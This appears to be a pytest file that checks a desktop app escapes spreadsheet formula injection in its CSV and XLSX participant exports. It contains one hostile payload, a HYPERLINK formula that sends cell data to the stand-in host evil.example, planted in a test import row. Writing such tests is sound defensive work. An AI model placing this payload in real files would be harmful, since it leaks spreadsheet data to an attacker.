"""Participant exports: a formula typed into a village or a name never runs in the spreadsheet that opens the file."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from desktop.cli import main
from desktop.services.exports import csv_safe

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'


def test_csv_cells_that_start_a_formula_get_a_quote() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(f"{start}1+1") == f"'{start}1+1"
    assert csv_safe("Thôn 9") == "Thôn 9" and csv_safe("") == "" and csv_safe(None) is None


def test_an_imported_formula_village_leaves_as_text_in_csv_and_xlsx(
        demo_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Finding 6 of issue 17, as run: import the village, export participants to .csv and .xlsx."""
    listing = tmp_path / "danh-sach.csv"
    with listing.open("w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["Họ và tên", "Ngày sinh", "Giới tính", "Số CCCD", "Thôn, buôn", "Xã"])
        out.writerow(["Trần Thị Độc", "01/02/1990", "Nữ", "066190099901", HOSTILE, "Xã Cư M'gar"])
        out.writerow(["Lê Văn Cộng", "02/03/1991", "Nam", "066091099902", "+84 thôn", "Xã Cư M'gar"])
    base = ["--db", str(demo_file), "--user", "canbo"]
    assert main([*base, "import", str(listing), "--commune", "24280", "--commit"]) == 0, capsys.readouterr()
    assert main([*base, "export", "participants", "--out", str(tmp_path / "p.csv")]) == 0
    assert main([*base, "export", "participants", "--out", str(tmp_path / "p.xlsx")]) == 0

    with (tmp_path / "p.csv").open(encoding="utf-8", newline="") as handle:
        villages = {row["full_name"]: row["village"] for row in csv.DictReader(handle)}
    assert villages["Trần Thị Độc"] == "'" + HOSTILE
    assert villages["Lê Văn Cộng"] == "'+84 thôn"

    sheet = openpyxl.load_workbook(tmp_path / "p.xlsx").active
    assert sheet is not None
    cells = {row[2].value: row[7] for row in sheet.iter_rows(min_row=2)}
    assert cells["Trần Thị Độc"].value == HOSTILE and cells["Trần Thị Độc"].data_type == "s"
